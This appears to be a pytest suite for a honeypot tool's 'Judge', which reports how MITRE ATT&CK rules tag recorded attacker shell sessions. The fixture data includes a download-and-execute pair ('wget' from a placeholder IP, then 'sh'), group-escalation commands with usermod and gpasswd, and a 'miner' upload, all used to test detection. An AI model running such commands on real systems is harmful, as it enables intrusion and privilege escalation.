"""What a judge says of rules and sessions: values that a person can check by hand."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from decnet.ttp import judge as judging
from decnet.ttp.judge import Judge
from decnet.ttp.offline import OfflineTagger
from decnet.ttp.offline_sessions import received_session, tag_session

RULE = """
rule_id: {id}
rule_version: 1
name: {name}
description: For a test.
applies_to: [command]
match: {match}
emits: [{{tactic: TA0002, technique_id: {technique}, confidence: {confidence}}}]
tests: {{match: {examples}, no_match: []}}
"""
PLUM, PEAR = "{pattern: '^plum\\b'}", "{pattern: 'plum|pear'}"


def rule(place: Path, ident: str, match: str, technique: str = "T1059", **more: Any) -> None:
    said = {"name": f"rule_{ident.lower()}", "confidence": 0.8, "examples": "[]", **more}
    text = RULE.format(id=ident, match=match, technique=technique, **said)
    (place / f"{ident}.yaml").write_text(text + more.get("rest", ""), "utf-8")


def judge_of(place: Path) -> Judge:
    tagger = OfflineTagger(place)
    assert tagger.errors == ()
    return Judge(tagger)


def session(
    judge: Judge, *commands: Any, source: str = "a", times: int = 1, name: str = "s", **more: Any
) -> None:
    judge.session(received_session({"session": name, "commands": list(commands), **more}), source, times)


def test_totals_count_a_session_as_often_as_it_occurred(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", PLUM)
    judge = judge_of(tmp_path)
    session(judge, "plum 1", "fig a", times=7)
    session(judge, "fig b")
    assert judge.report()["totals"] == {
        "sessions_read": 2, "sessions": 8, "sessions_tagged": 7, "sessions_untagged": 1, "lines": 15, "lines_tagged": 7,
        "lines_untagged": 8, "untagged_kinds": 1, "untagged_different": 2, "beyond_bound": 0, "unreadable": 0, "rules": 1, "rules_fired": 1,
    }  # fmt: skip


def test_untagged_lines_are_told_by_kind_and_by_text_with_the_session_to_look_at(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", PLUM)
    judge = judge_of(tmp_path)
    session(judge, "uname", "rm /tmp/a9", "rm /tmp/b7", name="quiet", times=2)
    session(judge, "plum", "rm /tmp/a9", name="loud", source="b")
    kinds = judge.report()["untagged_kinds"]
    assert [(row["kind"], row["seen"]) for row in kinds] == [("rm PATH", 5), ("uname", 2)]
    assert kinds[0] == {
        "kind": "rm PATH", "seen": 5, "different": 2, "sessions": 3, "silent_sessions": 2, "sources": 2,
        "example": "rm /tmp/a9", "session": "quiet", "line": 2, "knows": ["session.idle", "session.last_recon_lines", "session.recon"],
    }  # fmt: skip
    lines = judge.report()["untagged_lines"]
    assert [(row["example"], row["seen"], row["session"], row["line"]) for row in lines] == [
        ("rm /tmp/a9", 3, "quiet", 2),
        ("rm /tmp/b7", 2, "quiet", 3),
        ("uname", 2, "quiet", 1),
    ]


def test_what_the_session_tells_of_an_untagged_line_is_named(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", PLUM)
    judge = judge_of(tmp_path)
    session(judge, "wget http://203.0.113.9/x", "sh x")
    (kind,) = [row for row in judge.report()["untagged_kinds"] if row["kind"] == "sh NAME"]
    assert kind["knows"] == ["arg.origin", "exec.origin", "exec.via", "session.worked"]


def test_lines_that_the_shell_saw_as_one_are_tagged_together(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", "{pattern: '(?s)^plum.*fig'}")
    judge = judge_of(tmp_path)
    session(judge, "plum 'a", "fig'", "pear")
    assert judge.report()["totals"]["lines_tagged"] == 2


def test_rules_that_never_fired_are_told_with_how_near_they_came(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", PLUM)
    rule(tmp_path, "R5002", "{all: [{pattern: plum}, {field: argv0, op: equals, value: pear}]}")
    rule(tmp_path, "R5003", "{pattern: quince}")
    rule(tmp_path, "R5004", PLUM, confidence=0.1)
    judge = judge_of(tmp_path)
    session(judge, "plum")
    untyped = {"program": "", "typed": 0, "example": ""}
    assert judge.report()["never_fired"] == [
        {"rule_id": "R5004", "name": "rule_r5004", "looked_at": 1, "held": 1, **untyped},
        {"rule_id": "R5002", "name": "rule_r5002", "looked_at": 1, "held": 0, **untyped},
        {"rule_id": "R5003", "name": "rule_r5003", "looked_at": 0, "held": 0, **untyped},
    ]


def test_a_rule_that_never_fired_names_the_program_of_its_examples_that_was_typed(tmp_path: Path) -> None:
    examples = "['usermod -G wheel a', 'echo a', [uname, 'sudo gpasswd -a b wheel']]"
    rule(tmp_path, "R5001", "{pattern: wheel}", examples=examples)
    judge = judge_of(tmp_path)
    session(judge, "echo x", "sudo /usr/sbin/usermod -s /bin/sh a", "gpasswd", "echo usermod", times=3)
    (row,) = judge.report()["never_fired"]
    assert (row["program"], row["typed"], row["example"]) == (
        "usermod",
        6,
        "sudo /usr/sbin/usermod -s /bin/sh a",
    )


def test_a_rule_that_nothing_here_could_make_fire_is_not_blamed(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", PLUM)
    payload = RULE.replace("applies_to: [command]", "applies_to: [payload]")
    (tmp_path / "p.yaml").write_text(
        payload.format(
            id="R5002",
            name="brought",
            match="{pattern: miner}",
            technique="T1059",
            confidence=0.5,
            examples="[]",
        ),
        "utf-8",
    )
    judge = judge_of(tmp_path)
    session(judge, "fig")
    assert judge.report()["not_asked"] == [
        {"rule_id": "R5002", "name": "brought", "reason": "no payload here"}
    ]
    session(judge, "fig", uploads=[{"filename": "miner"}])
    assert judge.report()["not_asked"] == []
    assert [row["rule_id"] for row in judge.report()["never_fired"]] == ["R5001"]


def test_a_rule_over_time_is_not_blamed_where_no_line_has_a_time(tmp_path: Path) -> None:
    over_time = "{pattern: plum, window: {count: 2, within: 1m, by: [session_id]}}"
    rule(tmp_path, "R5001", over_time)
    judge = judge_of(tmp_path)
    session(judge, "plum 1", "plum 2")
    assert [row["reason"] for row in judge.report()["not_asked"]] == ["rules over time need times"]
    session(judge, {"text": "plum 1", "ts": 5})
    assert [(row["looked_at"], row["held"]) for row in judge.report()["never_fired"]] == [(3, 3)]
    session(judge, {"text": "plum 1", "ts": 10}, {"text": "plum 2", "ts": 11})
    assert judge.report()["totals"]["rules_fired"] == 1


def test_a_rule_that_fires_on_one_source_is_told_only_where_there_are_several(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", PLUM)
    rule(tmp_path, "R5002", "{pattern: fig}")
    judge = judge_of(tmp_path)
    session(judge, "plum", "fig", times=3)
    assert judge.report()["one_source"] is None
    session(judge, "fig", source="b")
    assert judge.report()["one_source"] == [
        {"rule_id": "R5001", "name": "rule_r5001", "source": "a", "seen": 3, "sessions": 3}
    ]
    assert judge.report()["sources"] == {"a": 3, "b": 1}


def test_overlap_is_the_same_technique_on_the_same_line(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", PLUM)
    rule(tmp_path, "R5002", PEAR)
    rule(tmp_path, "R5003", PEAR, technique="T1204")
    judge = judge_of(tmp_path)
    session(judge, "plum", "pear", "pear 2", "pear 3")
    assert judge.report()["overlaps"] == [
        {"rules": ["R5001", "R5002"], "techniques": ["T1059"], "seen": 1, "shares": [1.0, 0.25], "alone": [0, 3], "example": "plum"}
    ]  # fmt: skip


def test_cost_is_of_lines_that_were_judged_and_the_dearest_rule_is_first(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", "{pattern: plum}")
    rule(
        tmp_path,
        "R5002",
        "{any: [{pattern: 'plum.*(a|b)+c'}, {pattern: 'plum.*[x-z]{3,50}q'}, {pattern: plu}]}",
    )
    judge = judge_of(tmp_path)
    for _ in range(3):
        session(judge, "echo plum", "echo fig")
    cost = judge.report()["cost"]
    assert cost["judged"] == 2
    rules = cost["rules"]
    assert {row["rule_id"]: (row["looked_at"], row["held"]) for row in rules} == {
        "R5001": (1, 1),
        "R5002": (1, 1),
    }
    assert [row["us_a_line"] for row in rules] == sorted((row["us_a_line"] for row in rules), reverse=True)
    assert 0 < cost["us_rules"] < cost["us_a_line"] < 100_000


def test_a_judge_answers_as_tagging_does(tmp_path: Path) -> None:
    rules = Path(__file__).parents[2] / "rules" / "ttp"
    said = {
        "session": "s",
        "commands": ["uname -a", "wget http://203.0.113.9/x", "sh x", "fig", "rm x"],
        "uploads": [{"filename": "x.sh"}],
    }
    answer = tag_session(OfflineTagger(rules), said)
    judge = Judge(OfflineTagger(rules))
    judge.session(received_session(said), "a")
    report = judge.report()
    untagged = [command["input"] for command in answer["commands"] if not command["tags"]]
    assert sorted(row["example"] for row in report["untagged_lines"]) == sorted(untagged)
    tags = [*answer["session_tags"], *(tag for command in answer["commands"] for tag in command["tags"])]
    fired = {tag["rule_id"] for tag in tags}
    assert report["totals"]["rules_fired"] == len(fired) > 5
    assert not fired & {row["rule_id"] for row in (*report["never_fired"], *report["not_asked"])}


def test_kinds_beyond_the_bound_are_counted_not_kept(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rule(tmp_path, "R5001", PLUM)
    monkeypatch.setattr(judging, "MAX_KINDS", 2)
    judge = judge_of(tmp_path)
    session(judge, "uname", "id", times=2)
    assert judge.report()["totals"]["beyond_bound"] == 0
    session(judge, "w", "uname", times=5)
    report = judge.report()
    assert [row["kind"] for row in report["untagged_kinds"]] == ["uname", "id"]
    assert report["totals"]["beyond_bound"] == 10  # as a kind and as a text
    assert report["totals"]["lines_untagged"] == 14


def test_sources_beyond_the_bound_are_one(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    rule(tmp_path, "R5001", PLUM)
    monkeypatch.setattr(judging, "MAX_SOURCES", 2)
    judge = judge_of(tmp_path)
    for source in "abcda":
        session(judge, "fig", source=source)
    assert judge.report()["sources"] == {"a": 2, judging.OTHER_SOURCES: 2, "b": 1}


def test_long_lines_take_no_more_room_than_their_examples(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", PLUM)
    judge = judge_of(tmp_path)
    session(judge, "fig " + "x" * 100_000, "fig " + "x" * 100_001)
    rows = judge.report()["untagged_lines"]
    assert [len(row["example"]) for row in rows] == [judging.MAX_EXAMPLE_CHARS] * 2


def test_what_cannot_be_read_is_counted_and_the_first_are_named(tmp_path: Path) -> None:
    rule(tmp_path, "R5001", PLUM)
    judge = judge_of(tmp_path)
    for number in range(judging.MAX_UNREADABLE + 5):
        judge.unreadable("f", number, "no JSON")
    report = judge.report()
    assert report["totals"]["unreadable"] == judging.MAX_UNREADABLE + 5
    assert len(report["unreadable"]) == judging.MAX_UNREADABLE
    assert report["unreadable"][0] == {"source": "f", "line": 0, "reason": "no JSON"}
